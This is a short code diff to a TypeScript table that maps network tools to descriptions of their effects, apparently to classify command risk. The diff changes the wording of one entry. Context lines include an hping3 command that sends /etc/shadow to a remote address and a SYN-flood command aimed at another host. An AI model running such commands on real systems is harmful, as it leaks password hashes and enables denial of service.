@@ -47,7 +47,7 @@ export const networkDiagnosis: ExampleTable = {
       'hping3 --listen marked --icmp -I eth0 → fetch marked',
       'hping3 -E /etc/shadow -d 100 192.0.2.7 → read /etc/shadow; send 192.0.2.7',
     ],
-    unclear: [`hping3 --flood -S -p 80 203.0.113.4 → whether the other machine stays up`],
+    unclear: [`hping3 --flood -S -p 80 203.0.113.4 → how much the other side can bear`],
   },
   lft: { use: 'lft db.example.org → send db.example.org' },
   mtr: {
